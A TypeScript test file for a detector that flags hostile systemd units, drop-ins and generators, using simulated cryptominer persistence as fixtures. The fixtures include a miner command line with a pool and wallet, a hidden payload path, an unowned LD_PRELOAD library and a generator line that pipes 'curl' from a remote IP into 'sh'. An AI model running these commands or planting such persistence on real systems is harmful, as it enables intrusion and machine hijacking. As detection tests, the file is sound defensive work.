import { describe, expect, it } from 'vitest'
import { ownText, shown } from '../../host-text.ts'
import { aFile, aProcess, aSocket } from '../fixtures/facts.ts'
import { found, judged, signalsOf } from '../fixtures/judging.ts'
import { aUnit } from '../fixtures/units.ts'

const etc = '/etc/systemd/system'
const payload = '/usr/local/lib/.net/netd'
const texts = (...values: readonly string[]) => values.map((value) => ownText(value))
const runs = (command: string) => ({
  command: ownText(command),
  paths: texts(...(command.match(/(?<![\w:/.])\/[\w./+-]+/g) ?? [])),
})
/** A miner beyond doubt, in the control group of a service. */
const miner = (exe: string, service: string, pid = 50) => [
  aProcess(pid, exe, {
    cmdline: `${exe} -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x`,
    cgroup: `0::/system.slice/${service}`,
  }),
  aFile(exe, null),
  aSocket(pid, '198.51.100.5', 3333),
]
const unit = (result: ReturnType<typeof judged>, name: string) =>
  found(result, 'unit').find((one) => one.params['name'] === name)

describe('a unit', () => {
  it('that starts the miner from a hidden place and restarts it for ever is proposed', () => {
    const guard = aUnit(`${etc}/net.service`, {
      ...runs(payload),
      restart: ownText('always'),
      restartSeconds: 1,
      pids: [50],
    })
    const finding = unit(
      judged([guard, aFile(`${etc}/net.service`, null), ...miner(payload, 'net.service')]),
      'net.service',
    )
    expect(finding).toMatchObject({ proposed: 'yes', title: 'unit.starts-hostile' })
    expect(finding?.tags).toEqual(['hostile-persistence', 'unit', 'whole-file'])
    expect(signalsOf(finding)).toEqual(
      expect.arrayContaining(['starts-hostile-process', 'runs-from-hidden-place', 'revives-hostile-process']),
    )
  })

  it('that restarts the miner itself is proposed wherever the miner lies', () => {
    const plain = '/usr/local/bin/netd'
    const guard = aUnit(`${etc}/net.service`, { ...runs(plain), restart: ownText('always') })
    const result = judged([guard, aFile(`${etc}/net.service`, null), ...miner(plain, 'net.service')])
    expect(unit(result, 'net.service')).toMatchObject({ proposed: 'yes' })
  })

  it('somebody came in through is shown and not proposed: the miner is its child, not its program', () => {
    const app = aUnit(`${etc}/app.service`, { ...runs('/opt/app/bin/server --port 80'), restart: ownText('always') })
    const result = judged([
      app,
      aFile(`${etc}/app.service`, null),
      aProcess(40, '/opt/app/bin/server', { cgroup: '0::/system.slice/app.service' }),
      aFile('/opt/app/bin/server', null),
      ...miner('/usr/local/bin/kdevd', 'app.service'),
    ])
    expect(unit(result, 'app.service')).toMatchObject({ proposed: 'no' })
    const program = found(result, 'file').find((one) => one.params['path'] === '/opt/app/bin/server')
    expect(program?.proposed ?? 'no').toBe('no')
  })

  it.each([
    ['a program of the owner that restarts for ever', `${etc}/tool.service`, '/opt/tool/bin/tool --serve'],
    ['a package’s program', `${etc}/proxy.service`, '/usr/sbin/nginx -g daemon'],
    ['an interpreter with a script of the owner', `${etc}/worker.service`, '/usr/bin/python3 /srv/app/worker.py'],
    ['a shell that removes old files', `${etc}/tidy.service`, '/usr/bin/find /srv/tmp -mtime +7 -delete'],
  ])('of the owner is nothing: %s', (_what, path, command) => {
    const own = aUnit(path, {
      ...runs(command),
      restart: ownText('always'),
      restartSeconds: 1,
      starts: texts('alert.service'),
      enabledBy: texts(`${etc}/multi-user.target.wants/x`),
    })
    const result = judged([
      own,
      aFile(path, null),
      aFile('/usr/sbin/nginx', 'nginx'),
      aFile('/opt/tool/bin/tool', null),
    ])
    expect(found(result, 'unit')).toEqual([])
    expect(result.verdict).toBe('clean')
  })

  it('that is only named by a hostile one is shown and not proposed: an intruder may name anything', () => {
    const guard = aUnit(`${etc}/net.service`, {
      ...runs(payload),
      restart: ownText('always'),
      starts: texts('alert.service', 'repair.service'),
    })
    const alert = aUnit(`${etc}/alert.service`, runs('/opt/tool/bin/alert'))
    const repair = aUnit(`${etc}/repair.service`, runs('/usr/local/lib/.net/repair.sh'))
    const result = judged([
      guard,
      alert,
      repair,
      ...[guard, alert, repair].map((one) => aFile(shown(one.file.path), null)),
      ...miner(payload, 'net.service'),
    ])
    expect(unit(result, 'alert.service')).toMatchObject({ score: 50, proposed: 'no' })
    expect(unit(result, 'repair.service')).toMatchObject({ proposed: 'yes' })
    expect(signalsOf(unit(result, 'repair.service'))).toContain('started-by-hostile-unit')
  })

  it('that made sshd need it says so', () => {
    const guard = aUnit(`${etc}/net.service`, {
      ...runs(payload),
      enabledBy: texts(`${etc}/ssh.service.requires/net.service`),
    })
    expect(signalsOf(unit(judged([guard]), 'net.service'))).toContain('held-by-sshd')
  })

  it('with a name one letter off a real one is too little to be shown', () => {
    const result = judged([aUnit(`${etc}/systemd-resolvd.service`, runs('/opt/tool/bin/tool'))])
    expect(found(result, 'unit')).toEqual([])
  })
})

describe('a drop-in', () => {
  const dropIn = (change: Parameters<typeof aUnit>[1]) =>
    aUnit(`${etc}/nginx.service.d/x.conf`, { role: 'drop-in', name: ownText('nginx.service'), ...change })

  it('of the owner is nothing, a program of a package among it', () => {
    const result = judged([
      dropIn({ ...runs('/usr/bin/install -d /run/nginx'), environment: texts('INTERVAL=15') }),
      aFile('/usr/bin/install', 'coreutils'),
    ])
    expect(found(result, 'unit')).toEqual([])
  })

  it('that preloads a package’s allocator is nothing; a library nobody owns is worth a look', () => {
    const jemalloc = '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'
    const good = judged([dropIn({ environment: texts(`LD_PRELOAD=${jemalloc}`) }), aFile(jemalloc, 'libjemalloc2')])
    expect(found(good, 'unit')).toEqual([])
    const odd = judged([
      dropIn({ environment: texts('"LD_PRELOAD=/usr/local/lib/x.so"') }),
      aFile('/usr/local/lib/x.so', null),
    ])
    expect(found(odd, 'unit')).toMatchObject([{ score: 55, proposed: 'no', title: 'unit.drop-in' }])
  })

  it('that starts what a hostile unit starts is proposed', () => {
    const repair = '/usr/local/lib/.net/repair.sh'
    const guard = aUnit(`${etc}/net.service`, { ...runs(payload), starts: texts('repair.service') })
    const result = judged([
      guard,
      aUnit(`${etc}/repair.service`, runs(repair)),
      dropIn(runs(`-+${repair}`)),
      ...miner(payload, 'net.service'),
    ])
    expect(unit(result, 'nginx.service')).toMatchObject({ proposed: 'yes', title: 'unit.drop-in' })
  })
})

describe('a generator', () => {
  it('that no package owns is worth a look; with a hostile command it is proposed', () => {
    const path = '/etc/systemd/system-generators/net'
    const generator = (command: string) => aUnit(path, { role: 'generator', form: 'script', ...runs(command) })
    const plain = judged([generator('#!/bin/sh\ntouch /run/x\n'), aFile(path, null)])
    expect(found(plain, 'unit')).toMatchObject([{ score: 45, proposed: 'no', title: 'unit.generator' }])
    const fetching = judged([generator('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n'), aFile(path, null)])
    expect(found(fetching, 'unit')).toMatchObject([{ proposed: 'yes' }])
  })
})
